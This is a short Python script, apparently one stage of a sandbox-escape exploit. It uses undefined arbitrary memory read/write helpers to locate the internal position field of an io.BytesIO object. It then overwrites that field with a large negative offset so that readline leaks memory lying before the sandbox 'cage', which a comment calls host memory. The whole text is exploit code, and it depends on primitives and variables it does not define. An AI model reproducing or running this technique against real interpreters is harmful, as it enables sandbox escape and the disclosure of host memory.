# The place of a stream is negative: before its text, and before the cage.
import io
b = io.BytesIO(b"hello\nworld\n" * 10)
core = id(b)
words = [r8(core + 8 * i) for i in range(16)]
print([hex(w) for w in words])
b.readline()
after = [r8(core + 8 * i) for i in range(16)]
place = [i for i in range(16) if words[i] != after[i] and after[i] == 6]
print(place)
at = core + 8 * place[0]
held = [w & 0xFFFFFFFF for w in after if w >> 48 == 0xFFF9]
# 1 GiB and more before the cage is host memory: the guard is read only if nothing else is there
D = [0x10, (6 << 30), 1 << 44][attempt % 3]
w8(at, (1 << 64) - D)
print(D, b.readline()[:200])
